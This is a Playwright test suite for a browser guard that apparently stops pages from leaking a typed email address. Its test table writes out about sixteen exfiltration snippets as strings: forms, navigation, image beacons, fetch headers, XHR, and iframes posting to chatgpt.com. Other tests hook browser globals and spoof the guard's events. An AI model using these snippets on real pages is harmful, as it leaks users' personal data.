import type { Page } from '@playwright/test';
import { expect, netTest as test } from './net-test.ts';

const HELD = 'sato.hanako@example-shop.jp';

/** Runs in the page. What it throws is how the page learns that something was stopped. */
const tryOut = (page: Page, code: string): Promise<unknown> =>
  page.evaluate(`(async () => { ${code} })().catch(() => undefined)`);

test.describe('other ways out', () => {
  const WAYS: Readonly<Record<string, (held: string) => string>> = {
    'a form that submits itself': (held) =>
      `const f = document.createElement('form'); f.method = 'post'; f.action = '/send'; f.target = 'sink';
       f.innerHTML = '<input name=action><input name=message>'; f.elements.message.value = '${held}';
       document.body.append(f); HTMLFormElement.prototype.submit.call(f);`,
    'a form that is submitted by script': (held) =>
      `const f = document.createElement('form'); f.action = '/send'; f.target = 'sink';
       f.innerHTML = '<input name=message>'; f.elements.message.value = '${held}'; document.body.append(f); f.requestSubmit();`,
    'an address that is gone to': (held) => `location.href = '/send?q=' + encodeURIComponent('${held}');`,
    'an address that replaces this one': (held) => `location.replace('https://example.com/send?q=${held}');`,
    'a link that script presses': (held) =>
      `const a = document.createElement('a'); a.href = '/send?q=${held}'; document.body.append(a); a.click();`,
    'a window that is opened': (held) => `const w = open('/send?q=${held}'); setTimeout(() => w?.close(), 600);`,
    'a picture': (held) => `new Image().src = 'https://example.com/send?q=' + btoa('${held}');`,
    'an event source': (held) => `new EventSource('/send?q=${held}').close;`,
    'an address in fetch': (held) => `await fetch('/send?q=' + encodeURIComponent(' ${held}'));`,
    'a header of fetch': (held) => `await fetch('/send', { headers: { 'x-text': '${held}' } });`,
    'a header of a request': (held) => `await fetch(new Request('/send', { headers: { 'x-text': '${held}' } }));`,
    'an address in a request that blocks': (held) =>
      `const x = new XMLHttpRequest(); x.open('POST', '/send', false); x.send('${held}');`,
    'a fresh frame': (held) =>
      `const f = document.createElement('iframe'); document.body.append(f);
       await f.contentWindow.fetch('https://chatgpt.com/send', { method: 'POST', body: '${held}' });`,
    'a frame on its way': (held) =>
      `const f = document.createElement('iframe'); f.src = '/never'; document.body.append(f);
       await f.contentWindow.fetch('https://chatgpt.com/send', { method: 'POST', body: '${held}'  });`,
    'a frame that was written': (held) =>
      `const f = document.createElement('iframe'); f.srcdoc = '<script>go = (t) => fetch("https://chatgpt.com/send", { method: "POST", body: t })<\\/script>';
       document.body.append(f); await new Promise((r) => f.onload = r); await window[window.length - 1].go('${held}');`,
    'a document that was opened anew': (held) =>
      `document.open(); document.write('<p>new'); document.close(); await fetch('/send', { method: 'POST', body: '${held}' });`,
  };
  for (const [name, code] of Object.entries(WAYS)) {
    test(name, async ({ net }) => {
      await net.page.evaluate(() => {
        const sink = Object.assign(document.createElement('iframe'), { name: 'sink' });
        document.body.append(sink);
      });
      await net.type(`連絡先は ${HELD} です`);
      await tryOut(net.page, code(HELD));
      await net.page.waitForTimeout(300);
      expect(net.sent).toEqual([]);
      await tryOut(net.page, code('nothing-to-see'));
      await expect.poll(() => net.sent.length).toBe(1);
    });
  }
});

test('a page that replaces everything after its start cannot open the gate, and hears nothing', async ({ net }) => {
  await net.type(`連絡先は ${HELD} です`);
  const heard = await net.page.evaluate(async (held) => {
    const [go, Req, Xhr, Socket] = [fetch, Request, XMLHttpRequest, WebSocket];
    const [beacon, send, xhrSend] = [Navigator, Socket, Xhr].map(
      ({ prototype }, at) => Reflect.get(prototype, at === 0 ? 'sendBeacon' : 'send') as () => unknown,
    ) as [() => unknown, () => unknown, () => unknown];
    const [form, blob, query] = [new FormData(), new Blob([held]), new URLSearchParams({ held })];
    form.append('message', held);
    form.append('file', blob);
    const request = new Req('/send?sabotaged', { method: 'POST', body: held });
    const xhr = new Xhr();
    xhr.open('POST', '/send?sabotaged');
    const socket = Object.create(Socket.prototype) as WebSocket;
    const bodies = [held, query, form, blob, new TextEncoder().encode(held), new Response(held).body];
    const heard = Object.setPrototypeOf([], null) as string[];
    const [names, describe, define, apply] = [
      Object.getOwnPropertyNames,
      Object.getOwnPropertyDescriptor,
      Object.defineProperty,
      Reflect.apply,
    ];
    const wait = setTimeout;
    const OwnPromise = Promise;
    let isQuiet = true;
    const spy = (name: string, method: (...args: unknown[]) => unknown) =>
      function (this: unknown, ...args: unknown[]) {
        if (!isQuiet) heard[heard.length] = name;
        return apply(method, this, args) as unknown;
      };
    const traps = ['get', 'apply', 'construct', 'toJSON', 'detail', 'bubbles', '0', '1'];
    const symbols = [Symbol.iterator, Symbol.hasInstance, Symbol.toPrimitive] as const;
    for (const name of names(globalThis)) {
      const owner = describe(globalThis, name)?.value as { prototype?: object } | undefined;
      if (typeof owner !== 'function' && typeof owner !== 'object') continue;
      for (const holder of [owner, (owner as { prototype?: object } | null)?.prototype]) {
        if (holder === null || holder === undefined || holder === globalThis || holder === document) continue;
        for (const key of [...names(holder), ...symbols]) {
          const found = describe(holder, key);
          if (found?.configurable !== true || key === 'constructor') continue;
          const label = `${name}.${String(key)}`;
          if (typeof found.value === 'function')
            define(holder, key, { ...found, value: spy(label, found.value as () => unknown) });
          else if (found.get !== undefined)
            define(holder, key, { ...found, get: spy(label, found.get) as () => unknown });
        }
      }
    }
    for (const trap of traps)
      define(Object.prototype, trap, {
        configurable: true,
        get: spy(`Object.prototype.${trap}`, () => undefined),
        set: spy(`set ${trap}`, () => undefined) as () => void,
      });
    isQuiet = false;
    for (let at = 0; at < bodies.length; at++) {
      const init = { __proto__: null, method: 'POST', body: bodies[at], duplex: 'half' } as RequestInit;
      void go('/send?sabotaged', init);
    }
    void go(request);
    apply(xhrSend, xhr, [held]);
    apply(beacon, navigator, ['/send?sabotaged', held]);
    apply(send, socket, [held]);
    await new OwnPromise<void>((done) => {
      wait(done, 600);
    });
    isQuiet = true;
    for (const trap of traps) delete (Object.prototype as Record<string, unknown>)[trap];
    let said = '';
    for (let at = 0; at < heard.length; at++) said += ` ${heard[at]}`;
    return said;
  }, HELD);
  expect(net.sent).toEqual([]);
  expect(heard).toBe('');
});

test('whoever speaks under the names of the line learns nothing and opens nothing', async ({ net }) => {
  await net.type(`連絡先は ${HELD} です`);
  const got = await net.page.evaluate(async (held) => {
    const heard: string[] = [];
    for (const name of ['sekisho-line', 'sekisho-line-wanted', 'heard', 'armed', 'leaving', 'verdict'])
      for (const target of [document, window]) target.addEventListener(name, (event) => heard.push(event.type), true);
    const own = document.createElement('i');
    for (const topic of ['heard', 'leaving']) own.addEventListener(topic, () => heard.push('own'));
    document.dispatchEvent(new CustomEvent('sekisho-line-wanted'));
    document.dispatchEvent(new MouseEvent('sekisho-line', { relatedTarget: own }));
    own.dispatchEvent(new CustomEvent('armed', { detail: 'no' }));
    document.dispatchEvent(new CustomEvent('armed', { detail: 'no' }));
    await fetch('/send', { method: 'POST', body: held }).catch(() => undefined);
    return heard.filter((one) => !one.startsWith('armed'));
  }, HELD);
  // Only what it said itself, once before the document and once at it.
  expect(got.filter((one) => !one.startsWith('sekisho-line'))).toEqual([]);
  expect(got).not.toContain('own');
  expect(net.sent).toEqual([]);
});
